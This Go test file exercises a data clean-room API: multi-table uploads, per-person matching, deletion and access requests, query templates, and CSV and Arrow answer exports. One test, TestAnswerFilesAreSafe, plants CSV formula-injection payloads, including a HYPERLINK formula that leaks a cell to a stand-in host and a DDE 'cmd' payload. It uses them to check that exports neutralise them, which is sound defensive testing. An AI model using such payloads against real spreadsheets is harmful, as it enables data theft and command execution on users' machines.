package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/apache/arrow/go/v17/arrow/ipc"
	"github.com/cleanroom/cleanroom/audience"
	"github.com/cleanroom/cleanroom/psi"
	"github.com/cleanroom/cleanroom/wire"
)

// tablesRules declare the brand's customers (one row a person, where its
// consent lives) and purchases (several a person, no consent column),
// and the publisher's exposures (several a person, consent on each row).
const tablesRules = `{"purpose": "measurement", "min_upload_users": 1000, "min_group_users": 1, "epsilon_budget": 100,
	"tables": [
		{"party": "proposer", "name": "customers", "columns": [{"name": "region", "role": "dimension"}]},
		{"party": "proposer", "name": "purchases", "columns": [{"name": "amount", "role": "metric", "bounds": [0, 100]}, {"name": "purchase_date", "role": "time"}]},
		{"party": "partner", "name": "exposures", "columns": [{"name": "campaign", "role": "dimension"}, {"name": "exposure_date", "role": "time"}]}]}`

// The people of the tables tests: the brand's customers 0..1499 (every
// tenth without the purpose), each with k%5+1 purchases; the publisher's
// 1000..2499, each with k%3+1 exposures (every seventh person's rows
// without consent).
func tablesPurchases(k int) int { return k%5 + 1 }
func tablesExposures(k int) int { return k%3 + 1 }
func tablesMatched(k int) bool  { return k >= 1000 && k < 1500 && k%10 != 0 && k%7 != 0 }

// tablesCSV returns a party's table as CSV, with the header given.
func tablesCSV(table string, skip func(k int) bool) string {
	var b strings.Builder
	switch table {
	case "customers":
		b.WriteString("email,region,consent\n")
		for k := 0; k < 1500; k++ {
			if skip != nil && skip(k) {
				continue
			}
			c := "measurement"
			if k%10 == 0 {
				c = "marketing"
			}
			fmt.Fprintf(&b, "person%d@example.com,r%d,%s\n", k, k%4, c)
		}
	case "purchases":
		b.WriteString("email,amount,purchase_date\n")
		for k := 0; k < 1500; k++ {
			for i := 0; i < tablesPurchases(k); i++ {
				fmt.Fprintf(&b, "person%d@example.com,%d,2026-11-%02d\n", k, 10+i, 1+(k+i)%28)
			}
		}
	case "exposures":
		b.WriteString("email,campaign,exposure_date,consent\n")
		for k := 1000; k < 2500; k++ {
			c := "measurement"
			if k%7 == 0 {
				c = ""
			}
			for i := 0; i < tablesExposures(k); i++ {
				fmt.Fprintf(&b, "person%d@example.com,c%d,2026-10-%02d,%s\n", k, (k+i)%2, 1+(k+i)%28, c)
			}
		}
	}
	return b.String()
}

// uploadTable encodes and uploads one table of a party, returning the
// status and body.
func (e *env) uploadTable(p party, table, csvText string, query string) (int, []byte) {
	e.t.Helper()
	attrs := map[string][]audience.AttrSpec{
		"customers": {{Name: "region", Type: "string"}},
		"purchases": {{Name: "amount", Type: "float"}, {Name: "purchase_date", Type: "date"}},
		"exposures": {{Name: "campaign", Type: "string"}, {Name: "exposure_date", Type: "date"}},
	}[table]
	consent := ""
	if strings.Contains(strings.SplitN(csvText, "\n", 2)[0], "consent") {
		consent = "consent"
	}
	if strings.Contains(strings.SplitN(csvText, "\n", 2)[0], "extra") {
		attrs = nil // every column, the undeclared one too
	}
	var body bytes.Buffer
	if _, err := audience.EncodeCSV(context.Background(), strings.NewReader(csvText), &body, p.key,
		audience.EncodeOptions{IDColumn: "email", IDType: psi.Email, ConsentColumn: consent, Attributes: attrs}); err != nil {
		e.t.Fatal(err)
	}
	u := e.srv.URL + "/v1/collaborations/" + e.collab + "/audiences?table=" + table + query
	req, _ := http.NewRequest("POST", u, &body)
	req.Header.Set("Authorization", "Bearer "+p.eng.Key)
	req.Header.Set("Content-Type", "application/vnd.apache.arrow.stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	buf.ReadFrom(resp.Body)
	return resp.StatusCode, buf.Bytes()
}

func (e *env) mustUploadTable(p party, table, csvText, query string) wire.Audience {
	e.t.Helper()
	st, body := e.uploadTable(p, table, csvText, query)
	if st != 201 {
		e.t.Fatalf("upload of %s: %d %s", table, st, body)
	}
	var a wire.Audience
	if err := json.Unmarshal(body, &a); err != nil {
		e.t.Fatal(err)
	}
	return a
}

// newTablesEnv uploads the three tables and matches them.
func newTablesEnv(t *testing.T) (*env, map[string]wire.Audience, string) {
	e := newEnv(t, tablesRules)
	up := map[string]wire.Audience{}
	for _, x := range []struct {
		p     party
		table string
	}{{e.brand, "customers"}, {e.brand, "purchases"}, {e.pub, "exposures"}} {
		up[x.table] = e.mustUploadTable(x.p, x.table, tablesCSV(x.table, nil), "")
	}
	mid, _ := e.matchBoth()
	return e, up, mid
}

// TestTablesAreLinkedPerPersonNeverMultiplied: a party's tables are
// declared and checked, the match runs on people, each table's rows are
// linked to the person map once, and no table holds more rows than the
// largest upload; queries read the tables joined on the person.
func TestTablesAreLinkedPerPersonNeverMultiplied(t *testing.T) {
	e := newEnv(t, tablesRules)
	// What the rules do not declare is refused, naming what they do.
	for _, c := range []struct {
		p           party
		table, csv  string
		status      int
		wantMessage string
	}{
		{e.brand, "clicks", tablesCSV("customers", nil), 400, "declare no table clicks for the proposer; its tables: customers, purchases"},
		{e.pub, "customers", tablesCSV("customers", nil), 400, "declare no table customers for the partner; its tables: exposures"},
		{e.brand, "audience", tablesCSV("customers", nil), 400, "declare no table audience"},
		{e.brand, "customers", "email,region,extra,consent\nperson1@example.com,r1,x,measurement\n", 400, "column extra is not declared in the rules"},
	} {
		st, body := e.uploadTable(c.p, c.table, c.csv, "")
		if st != c.status || !strings.Contains(string(body), c.wantMessage) {
			t.Errorf("upload of %s: %d %s; want %d with %q", c.table, st, body, c.status, c.wantMessage)
		}
	}
	up := map[string]wire.Audience{}
	for _, x := range []struct {
		p     party
		table string
	}{{e.brand, "customers"}, {e.brand, "purchases"}, {e.pub, "exposures"}} {
		up[x.table] = e.mustUploadTable(x.p, x.table, tablesCSV(x.table, nil), "")
	}
	// Starting before every party uploaded is refused; here both have.
	mid, sizes := e.matchBoth()
	want := 0
	wantRows := map[string]int{}
	for k := 0; k < 2500; k++ {
		if tablesMatched(k) {
			want++
			wantRows["customers"]++
			wantRows["purchases"] += tablesPurchases(k)
			wantRows["exposures"] += tablesExposures(k)
		}
	}
	if got := e.exactCohortSize(mid); got != int64(want) {
		t.Errorf("matched %d people, want %d (noisy %v)", got, want, sizes)
	}
	// Each table's rows of matched people, each row once.
	for name, a := range up {
		var link string
		var linked int64
		if err := e.db.SQL().QueryRow(`SELECT link_table, linked_rows FROM match_tables WHERE match_id = ? AND audience_id = ?`, mid, a.ID).Scan(&link, &linked); err != nil {
			t.Fatal(err)
		}
		if n := e.count(`SELECT count(*) FROM ` + link); n != int64(wantRows[name]) || linked != n {
			t.Errorf("table %s: %d linked rows (recorded %d), want %d", name, n, linked, wantRows[name])
		}
		if n := e.count(`SELECT count(*) FROM aud_` + a.ID); n != a.Rows {
			t.Errorf("table %s: stored %d rows, uploaded %d", name, n, a.Rows)
		}
	}
	// No table holds a product: none is larger than the largest upload.
	largest := max(up["purchases"].Rows, up["exposures"].Rows)
	if n := e.count(`SELECT max(estimated_size) FROM duckdb_tables()`); n > largest {
		t.Errorf("a table holds %d rows, more than the largest upload (%d)", n, largest)
	}
	// The audiences list names each party's tables; the other party
	// sees names and columns, never sizes.
	st, body := e.post(e.pub.eng.Key, "/v1/collaborations/"+e.collab+"/audiences", nil, "GET")
	var list wire.AudienceList
	if err := json.Unmarshal(body, &list); st != 200 || err != nil {
		t.Fatalf("%d %s", st, body)
	}
	if bt := list.Tables[e.brand.id]; len(bt) != 2 || bt[0].Table != "customers" || bt[1].Table != "purchases" || bt[0].Rows != 0 || len(bt[1].Columns) == 0 {
		t.Errorf("the brand's tables as the publisher sees them: %+v", bt)
	}
	if pt := list.Tables[e.pub.id]; len(pt) != 1 || pt[0].Table != "exposures" || pt[0].Rows == 0 {
		t.Errorf("the publisher's own tables: %+v", pt)
	}

	// The collaboration says what may be asked, as the cohort names it.
	co, err := e.brand.analyst.Collaboration(context.Background(), e.collab)
	if err != nil {
		t.Fatal(err)
	}
	if q := co.Queryable; q == nil || strings.Join(q.Dimensions, ",") != "brand_co_purchase_date,brand_co_region,publisher_campaign,publisher_exposure_date" ||
		len(q.Metrics) != 1 || q.Metrics["brand_co_amount"] != [2]float64{0, 100} {
		t.Errorf("queryable columns %+v", co.Queryable)
	}
	// Questions over the tables: declared columns are named by party.
	for _, q := range []string{
		`SELECT publisher_campaign, COUNT(*) AS people, SUM(brand_co_amount) AS spend FROM cohort GROUP BY publisher_campaign`,
		`SELECT brand_co_region, AVG(brand_co_amount) AS spend FROM cohort WHERE publisher_exposure_date >= DATE '2026-10-10' GROUP BY brand_co_region`,
		`SELECT COUNT(*) FROM cohort WHERE brand_co_purchase_date < DATE '2026-11-15' OR publisher_campaign = 'c1'`,
		`SELECT COUNT(*) FROM cohort`,
		`SELECT publisher_campaign, COUNT(*) AS people, COUNT(publisher_exposure_date) AS exposures FROM cohort GROUP BY publisher_campaign`,
		`SELECT MEDIAN(brand_co_amount), STDDEV(brand_co_amount) AS spread, QUANTILE_CONT(brand_co_amount, 0.9) FROM cohort`,
		`SELECT publisher_campaign, COUNT(*) AS converters, COUNT(brand_co_purchase_date) AS purchases FROM cohort
			WHERE date_diff('day', publisher_exposure_date, brand_co_purchase_date) BETWEEN 0 AND 40 GROUP BY publisher_campaign`,
	} {
		if st, body, _ := e.ask(e.brand.analyst.Key, q, 0.5, ""); st != 200 {
			t.Errorf("%s: %d %s", q, st, body)
		}
	}
	// A frequency distribution: people by their number of exposures,
	// every count from 1 to max_rows_per_person released (public), no
	// delta spent.
	st, body, _ = e.ask(e.brand.analyst.Key, `SELECT exposures, COUNT(*) AS people FROM
		(SELECT COUNT(publisher_exposure_date) AS exposures FROM cohort WHERE publisher_campaign = 'c1' GROUP BY person) GROUP BY exposures`, 0.5, "")
	var freq wire.Answer
	if err := json.Unmarshal(body, &freq); st != 200 || err != nil || len(freq.Rows) != 30 || freq.Delta != 0 || freq.Rows[0][0].(float64) != 1 {
		t.Errorf("frequency distribution: %d %s", st, body)
	}
	if st, body, _ := e.ask(e.brand.analyst.Key, `SELECT exposures, COUNT(*) FROM
		(SELECT COUNT(publisher_exposure_date) AS exposures FROM cohort WHERE brand_co_region = 'r1' GROUP BY person) GROUP BY exposures`, 0.5, ""); st != 403 || !strings.Contains(string(body), "per-person step") {
		t.Errorf("a per-person step filtered on another table: %d %s", st, body)
	}
	if st, body, _ := e.ask(e.brand.analyst.Key, `SELECT brand_co_amount, COUNT(*) FROM cohort GROUP BY brand_co_amount`, 0.5, ""); st == 200 || !strings.Contains(string(body), "metric") {
		t.Errorf("grouping by a declared metric: %d %s", st, body)
	}
}

// TestTableReplacedAlone: replacing one table deletes it alone, with its
// matches; the party's other tables stay, and a new match links the new
// rows.
func TestTableReplacedAlone(t *testing.T) {
	e, up, mid := newTablesEnv(t)
	// Fewer purchases: one a person.
	var b strings.Builder
	b.WriteString("email,amount,purchase_date\n")
	for k := 0; k < 1500; k++ {
		fmt.Fprintf(&b, "person%d@example.com,5,2026-11-01\n", k)
	}
	a := e.mustUploadTable(e.brand, "purchases", b.String(), "&replace=true")
	if a.Replaced != up["purchases"].ID || a.Table != "purchases" {
		t.Errorf("the new purchases: %+v, want it to replace %s", a, up["purchases"].ID)
	}
	if n := e.count(`SELECT count(*) FROM audiences WHERE id = ? AND deleted_at IS NULL`, up["customers"].ID); n != 1 {
		t.Error("replacing purchases deleted customers")
	}
	if n := e.count(`SELECT count(*) FROM duckdb_tables() WHERE table_name = ?`, "aud_"+up["purchases"].ID); n != 0 {
		t.Error("the replaced purchases table is still stored")
	}
	if st, body, _ := e.ask(e.brand.analyst.Key, `SELECT COUNT(*) FROM cohort`, 0.5, ""); st != 409 || !strings.Contains(string(body), "no_cohort") {
		t.Errorf("a query after the replacement, before a new match: %d %s", st, body)
	}
	mid2, _ := e.matchBoth()
	if mid2 == mid {
		t.Fatal("no new match after the replacement")
	}
	var link string
	if err := e.db.SQL().QueryRow(`SELECT link_table FROM match_tables WHERE match_id = ? AND audience_id = ?`, mid2, a.ID).Scan(&link); err != nil {
		t.Fatal(err)
	}
	if n, people := e.count(`SELECT count(*) FROM `+link), e.exactCohortSize(mid2); n != people {
		t.Errorf("the new purchases link %d rows for %d people, want one each", n, people)
	}
}

// TestDeletionAndAccessReachEveryTable: one person's deletion removes
// their rows from every table of the party and from every linked table,
// with a receipt counting rows by table; an access request shows their
// rows in each table; an opt-out keeps them out of later uploads of every
// table; a table's retention deletes that table alone.
func TestDeletionAndAccessReachEveryTable(t *testing.T) {
	e, up, mid := newTablesEnv(t)
	cp := "/v1/collaborations/" + e.collab
	const person = 1002 // matched: three purchases, one exposure
	if !tablesMatched(person) {
		t.Fatal("the test's person must be matched")
	}
	st, body := e.post(e.brand.eng.Key, cp+"/access-requests", map[string]string{"pid": blinded(t, e.brand.key, person)}, "POST")
	var acc wire.Access
	if err := json.Unmarshal(body, &acc); st != 200 || err != nil {
		t.Fatalf("access request: %d %s", st, body)
	}
	if len(acc.Tables["customers"]) != 1 || len(acc.Tables["purchases"]) != tablesPurchases(person) || !acc.Matchable {
		t.Errorf("access request: %s", body)
	}

	before := e.linkedPeople(mid)
	st, body = e.post(e.brand.eng.Key, cp+"/optouts", map[string]any{"pids": []string{blinded(t, e.brand.key, person)}}, "POST")
	if st != 200 {
		t.Fatalf("deletion: %d %s", st, body)
	}
	r := e.verifyReceipt(body)
	if r.TableRows["customers"] != 1 || r.TableRows["purchases"] != int64(tablesPurchases(person)) || r.AudienceRows != int64(1+tablesPurchases(person)) {
		t.Errorf("receipt counts %+v (total %d), want customers 1, purchases %d", r.TableRows, r.AudienceRows, tablesPurchases(person))
	}
	if n := e.linkedPeople(mid); n != before-1 {
		t.Errorf("linked people %d after deleting one of %d", n, before)
	}
	// Their rows are gone from every table of the brand, and from the
	// publisher's linked rows too (the person is no longer in the cohort).
	for _, name := range []string{"customers", "purchases"} {
		st, body := e.post(e.brand.eng.Key, cp+"/access-requests", map[string]string{"pid": blinded(t, e.brand.key, person)}, "POST")
		json.Unmarshal(body, &acc)
		if st != 200 || len(acc.Tables[name]) != 0 || !acc.OptedOut {
			t.Errorf("after the deletion, %s still has rows: %s", name, body)
		}
	}
	for _, l := range e.links(mid) {
		if n := e.count(`SELECT count(*) FROM ` + l + ` WHERE uid NOT IN (SELECT uid FROM cpeople_` + mid + `)`); n != 0 {
			t.Errorf("linked table %s keeps %d rows of people no longer matched", l, n)
		}
	}
	// The opt-out holds for a later upload of any of the brand's tables.
	a := e.mustUploadTable(e.brand, "purchases", tablesCSV("purchases", nil), "&replace=true")
	if want := up["purchases"].Rows - int64(tablesPurchases(person)); a.Rows != want {
		t.Errorf("purchases uploaded again: %d rows, want %d (the opted-out person left out)", a.Rows, want)
	}
	// A table's retention deletes that table alone.
	exp := e.mustUploadTable(e.pub, "exposures", tablesCSV("exposures", nil), "&replace=true&retention=1ms")
	time.Sleep(5 * time.Millisecond)
	n, err := e.server.Expire(context.Background(), time.Now())
	if err != nil || n != 1 {
		t.Fatalf("the janitor deleted %d tables (%v), want the exposures", n, err)
	}
	if n := e.count(`SELECT count(*) FROM audiences WHERE deleted_at IS NULL AND collab_id = ?`, e.collab); n != 2 {
		t.Errorf("%d live tables after the exposures expired, want the brand's two", n)
	}
	st, body = e.post(e.pub.eng.Key, cp+"/receipts", nil, "GET")
	if st != 200 || !strings.Contains(string(body), exp.ID) || !strings.Contains(string(body), `"kind":"expiry"`) {
		t.Errorf("the publisher's receipts: %d %s", st, body)
	}
}

// TestNewTableVoidsAWaitingMatch: a match started before a party brought
// all its tables is voided when another table arrives (its other half
// would wait on it for ever, the party's next start beginning another);
// the next match runs over every table.
func TestNewTableVoidsAWaitingMatch(t *testing.T) {
	e := newEnv(t, tablesRules)
	e.mustUploadTable(e.brand, "customers", tablesCSV("customers", nil), "")
	e.mustUploadTable(e.pub, "exposures", tablesCSV("exposures", nil), "")
	m, err := e.brand.eng.StartMatch(context.Background(), e.collab)
	if err != nil {
		t.Fatal(err)
	}
	e.mustUploadTable(e.brand, "purchases", tablesCSV("purchases", nil), "")
	if got, err := e.brand.eng.Match(context.Background(), e.collab, m.ID); err != nil || got.State != wire.MatchStale {
		t.Errorf("the match started before purchases came: %+v, %v; want stale", got, err)
	}
	mid, _ := e.matchBoth()
	if mid == m.ID {
		t.Fatal("the voided match was reused")
	}
	if n := e.count(`SELECT count(*) FROM match_tables WHERE match_id = ? AND link_table IS NOT NULL`, mid); n != 3 {
		t.Errorf("the new match linked %d tables, want 3", n)
	}
}

// TestTemplatesRunWithParameters: a template of the rules, approved with
// them, runs with parameters; a value out of its bounds and an unknown
// template are refused, naming what was wrong; a built-in runs over the
// collaboration's columns.
func TestTemplatesRunWithParameters(t *testing.T) {
	rules := strings.Replace(tablesRules, `"tables": [`, `"templates": [{"name": "conversions", "description": "Converters by campaign within a window",
		"sql": "SELECT publisher_campaign, COUNT(*) AS converters FROM cohort WHERE date_diff('day', publisher_exposure_date, brand_co_purchase_date) BETWEEN 0 AND {{window}} GROUP BY publisher_campaign",
		"params": [{"name": "window", "type": "int", "min": 0, "max": 30, "default": "7"}]}],
		"tables": [`, 1)
	e := newEnv(t, rules)
	for _, x := range []struct {
		p     party
		table string
	}{{e.brand, "customers"}, {e.brand, "purchases"}, {e.pub, "exposures"}} {
		e.mustUploadTable(x.p, x.table, tablesCSV(x.table, nil), "")
	}
	e.matchBoth()
	ctx := context.Background()
	an := e.brand.analyst
	var a wire.Answer
	if err := an.Ask(ctx, e.collab, wire.Request{Template: "conversions", Params: map[string]string{"window": "14"}, Epsilon: 0.5}, "json", &a); err != nil {
		t.Fatal(err)
	}
	if len(a.Columns) != 2 || a.Columns[1].Name != "converters" {
		t.Errorf("template answer %+v", a)
	}
	for _, c := range []struct {
		req  wire.Request
		want string
	}{
		{wire.Request{Template: "conversions", Params: map[string]string{"window": "60"}}, "parameter window: 60 is outside [0, 30]"},
		{wire.Request{Template: "nope"}, `no template "nope"`},
		{wire.Request{Template: "conversions", SQL: "SELECT COUNT(*) FROM cohort"}, "not both"},
	} {
		err := an.Ask(ctx, e.collab, c.req, "json", &a)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%+v: %v, want %q", c.req, err, c.want)
		}
	}
	// A built-in, over the collaboration's columns.
	if err := an.Ask(ctx, e.collab, wire.Request{Template: "sales_after_exposure", Epsilon: 0.5, Params: map[string]string{
		"by": "publisher_campaign", "amount": "brand_co_amount", "exposure_date": "publisher_exposure_date", "purchase_date": "brand_co_purchase_date", "window": "30"}}, "json", &a); err != nil {
		t.Fatal(err)
	}
	if a.Columns[2].Name != "sales" {
		t.Errorf("built-in answer %+v", a.Columns)
	}
	// The collaboration lists them for the console.
	co, err := an.Collaboration(ctx, e.collab)
	if err != nil || co.Queryable == nil || len(co.Queryable.Templates) != 5 || co.Queryable.Templates[0].Name != "conversions" {
		t.Errorf("templates listed: %+v, %v", co.Queryable, err)
	}
}

// TestAnswerFilesAreSafe: an answer as CSV neutralises the other party's
// values a spreadsheet would run as formulas, and a median, which states
// no interval, leaves its interval cells empty (CSV) or null (Arrow)
// instead of failing.
func TestAnswerFilesAreSafe(t *testing.T) {
	regions := []string{`=HYPERLINK("http://x.example/?"&A1)`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`}
	rules := strings.Replace(tablesRules, `"tables"`, `"public_groups": {"brand_co_region": {"values": [`+
		strings.Join(func() []string {
			var q []string
			for _, r := range regions {
				b, _ := json.Marshal(r)
				q = append(q, string(b))
			}
			return q
		}(), ",")+`]}}, "tables"`, 1)
	e := newEnv(t, rules)
	customers := tablesCSV("customers", nil)
	for i := 3; i >= 0; i-- {
		var b strings.Builder
		w := csv.NewWriter(&b)
		w.Write([]string{regions[i]})
		w.Flush()
		customers = strings.ReplaceAll(customers, fmt.Sprintf(",r%d,", i), ","+strings.TrimSpace(b.String())+",")
	}
	e.mustUploadTable(e.brand, "customers", customers, "")
	e.mustUploadTable(e.brand, "purchases", tablesCSV("purchases", nil), "")
	e.mustUploadTable(e.pub, "exposures", tablesCSV("exposures", nil), "")
	e.matchBoth()
	const q = `SELECT brand_co_region, COUNT(*) AS people, MEDIAN(brand_co_amount) AS median FROM cohort GROUP BY brand_co_region`
	st, body, _ := e.ask(e.pub.analyst.Key, q, 1, "text/csv")
	if st != 200 {
		t.Fatalf("CSV: %d %s", st, body)
	}
	cr := csv.NewReader(bytes.NewReader(body))
	cr.Comment = '#' // the lines stating the answer's cost
	recs, err := cr.ReadAll()
	if err != nil || len(recs) != 5 {
		t.Fatalf("CSV answer: %v\n%s", err, body)
	}
	if got := strings.Join(recs[0], ","); got != "brand_co_region,people,people_ci_lower,people_ci_upper,median,median_ci_lower,median_ci_upper" {
		t.Errorf("header %s", got)
	}
	seen := map[string]bool{}
	for _, r := range recs[1:] {
		if !strings.HasPrefix(r[0], "'") {
			t.Errorf("a formula left live in a CSV cell: %q", r[0])
		}
		seen[strings.TrimPrefix(r[0], "'")] = true
		if r[4] == "" || r[5] != "" || r[6] != "" {
			t.Errorf("median cells %q: a value and no interval expected", r[4:])
		}
	}
	for _, r := range regions {
		if !seen[r] {
			t.Errorf("group %q missing from the CSV", r)
		}
	}
	st, body, _ = e.ask(e.pub.analyst.Key, q, 1, "application/vnd.apache.arrow.stream")
	if st != 200 {
		t.Fatalf("Arrow: %d %s", st, body)
	}
	rd, err := ipc.NewReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer rd.Release()
	if !rd.Next() {
		t.Fatal("no Arrow record")
	}
	rec := rd.Record()
	if rec.NumRows() != 4 || rec.Column(5).NullN() != 4 || rec.Column(6).NullN() != 4 || rec.Column(4).NullN() != 0 {
		t.Errorf("Arrow answer: %d rows, median intervals null %d/%d", rec.NumRows(), rec.Column(5).NullN(), rec.Column(6).NullN())
	}
}
